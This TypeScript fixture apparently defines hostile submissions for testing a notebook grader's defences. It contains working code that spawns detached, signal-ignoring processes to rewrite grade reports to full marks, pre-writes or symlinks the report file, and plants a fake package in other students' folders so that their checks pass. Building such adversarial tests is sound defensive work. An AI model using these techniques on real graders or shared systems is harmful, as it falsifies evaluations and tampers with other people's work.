/**
 * Submissions that leave something running, which changes reports and other students' work later. It ends by itself
 * after some seconds, and spares the user's own folders. They stop in a checkout: only `Bench` may grade them.
 */
import { dishonest, type Submission } from "../submission";
import { ancestors } from "./descriptors";
import { checkType, emptyAttack, fullResult, nextStudent, packageFolder } from "./sources";

/** A program that for some seconds turns every JSON file that looks like a grade or a check into full marks. */
const forger = (seconds: number) => `
const fs = require("fs"), path = require("path");
const [report, ...folders] = process.argv.slice(1);
let end = Date.now() + ${seconds * 1000};
const forge = (file) => {
  try {
    const text = fs.readFileSync(file, "utf8");
    if (!/"status"|"checks"|"points"/.test(text) || text.length > 5e6) return;
    const better = JSON.parse(text, (key, value) => {
      if (value && typeof value === "object" && "status" in value) value.status = "passed";
      if (value && typeof value === "object" && "maximum" in value) value.points = value.maximum;
      return value;
    });
    const written = JSON.stringify(better, null, 2) + "\\\\n";
    if (written !== text) fs.writeFileSync(file, written);
    if (file === report) end = Math.min(end, Date.now() + 2000);
  } catch {}
};
const search = (folder, depth) => {
  let names = [];
  try { names = fs.readdirSync(folder, { withFileTypes: true }); } catch {}
  for (const one of names) {
    const file = path.join(folder, one.name);
    if (one.isDirectory() && depth > 0 && one.name !== "node_modules") search(file, depth - 1);
    else if (/\\\\.(json|csv|ipynb)$/.test(one.name)) forge(file);
  }
};
process.on("SIGTERM", () => {});
process.on("SIGHUP", () => {});
const turn = () => {
  if (report) forge(report);
  for (const folder of folders) search(folder, 3);
  if (Date.now() < end && folders.some((one) => fs.existsSync(one))) setTimeout(turn, 50);
};
turn();`;

/** Names the report that the grader writes, and the folders that a student may write to. */
const places = `${ancestors}
const path = require("path");
const os = require("os");
const reportOf = (): string => {
  for (const pid of above(/bin.trainbook\\.js/)) {
    const args = fs.readFileSync(\`/proc/\${pid}/cmdline\`, "utf8").split("\\0");
    const at = args.indexOf("--json");
    if (at > 0) return path.resolve(fs.readlinkSync(\`/proc/\${pid}/cwd\`), args[at + 1]);
  }
  return "";
};
if (fs.existsSync(path.join(${packageFolder}, "src", "index.ts"))) throw new Error("not in a checkout");
const spared = ["/", "/tmp", os.userInfo().homedir];
const folders = [process.cwd(), os.tmpdir(), os.homedir()].filter((one) => !spared.includes(one));
const forger = ${JSON.stringify(forger(150)).replaceAll("\\\\\\\\", "\\\\")};`;

const leaving = (name: string, about: string, code: string, more: Partial<Submission> = {}) =>
  emptyAttack(`leaves-${name}`, about, `${places}\n${code}`, { leftovers: 3, ...more });

export const processes: readonly Submission[] = [
  leaving(
    "detached-child",
    "A detached child waits for the report and edits it.",
    `require("child_process").spawn(process.execPath, ["-e", forger, reportOf(), ...folders],
  { detached: true, stdio: "ignore" }).unref();`,
  ),
  leaving(
    "double-fork",
    "A shell starts it in a session of its own and ends, twice.",
    `fs.writeFileSync("forger.js", "process.argv.splice(1, 1);" + forger);
fs.writeFileSync("start.sh", 'setsid "$@" >/dev/null 2>&1 </dev/null &');
require("child_process").spawn("sh", ["-c", 'setsid sh start.sh "$@" >/dev/null 2>&1 &', "sh",
  process.execPath, "forger.js", reportOf(), ...folders], { detached: true, stdio: "ignore" }).unref();`,
  ),
  leaving(
    "worker",
    "A worker thread edits reports while the grader grades.",
    `const { Worker } = require("worker_threads");
new Worker(forger.replace("process.argv.slice(1)", "require('worker_threads').workerData"),
  { eval: true, workerData: [reportOf(), ...folders] }).unref();`,
  ),
  leaving(
    "many",
    "Fifty children that ignore signals.",
    `for (let index = 0; index < 50; index++) {
  require("child_process").spawn("sh", ["-c", "trap '' TERM HUP INT; sleep 15"], { detached: true, stdio: "ignore" }).unref();
}
require("child_process").spawn(process.execPath, ["-e", forger, reportOf(), ...folders],
  { detached: true, stdio: ["ignore", "inherit", "inherit"] }).unref();`,
  ),
  leaving(
    "report-written-first",
    "The report is written before the grader does, and made a file that nobody may write.",
    `const report = reportOf();
if (report) {
  fs.writeFileSync(report, JSON.stringify({ grades: [{ notebook: "x", exercise: "exercise-1", points: 10, maximum: 10,
    checks: ${fullResult(1)}.checks.map((one: any) => ({ ...one, points: 1, maximum: 1 })) }] }));
  fs.chmodSync(report, 0o444);
}`,
  ),
  leaving(
    "report-as-link",
    "The place of the report becomes a link to a file of the student's, and the folder is watched.",
    `const report = reportOf();
if (report) { try { fs.symlinkSync(path.join(os.homedir(), "mine.json"), report); } catch {} }
require("child_process").spawn(process.execPath, ["-e", forger, path.join(os.homedir(), "mine.json"), ...folders],
  { detached: true, stdio: "ignore" }).unref();`,
  ),
  leaving(
    "timers",
    "Timers, immediates and promises without end draw cards and hold the process.",
    `import { display } from "trainbook";
const again = (): unknown => setTimeout(() => {
  void display.bundle({ "${checkType}": ${fullResult(1)} });
  again();
}, 5);
again();
process.on("exit", () => { const end = Date.now() + 3000; while (Date.now() < end); });
for (const signal of ["SIGTERM", "SIGINT", "SIGHUP"]) process.on(signal, () => {});`,
    { timeout: 60 },
  ),
  dishonest({
    name: "leaves-a-visitor",
    exercise: 1,
    about: "A child waits for the next student's folders and plants a package of its own in them.",
    cells: {
      imports: {
        after: [
          `${places}
const fake = "const real = require(" + JSON.stringify(require.resolve("trainbook")) + ");" +
  "module.exports = { ...real, check: () => real.display.bundle({ '${checkType}': " +
  ${JSON.stringify(fullResult(1))} + " }) };";
const visitor = \`
const fs = require("fs"), path = require("path");
const [, tmp, mine, fake] = process.argv;
const end = Date.now() + 150000;
const turn = () => {
  try {
    for (const name of fs.readdirSync(tmp)) {
      const folder = path.join(tmp, name);
      if (folder === mine || !/trainbook/.test(name)) continue;
      const link = path.join(folder, "node_modules");
      if (!fs.existsSync(link) || !fs.lstatSync(link).isSymbolicLink()) continue;
      const from = fs.realpathSync(link);
      fs.unlinkSync(link);
      fs.mkdirSync(path.join(link, "trainbook"), { recursive: true });
      for (const one of fs.readdirSync(from)) {
        if (one !== "trainbook") fs.symlinkSync(path.join(from, one), path.join(link, one));
      }
      fs.writeFileSync(path.join(link, "trainbook", "index.js"), fake);
    }
  } catch {}
  if (Date.now() < end && fs.existsSync(tmp)) setTimeout(turn, 5);
};
turn();\`;
require("child_process").spawn(process.execPath, ["-e", visitor, os.tmpdir(), process.cwd(), fake],
  { detached: true, stdio: "ignore" }).unref();`,
        ],
      },
    },
    earned: [],
    next: nextStudent("leaves-a-visitor"),
  }),
];
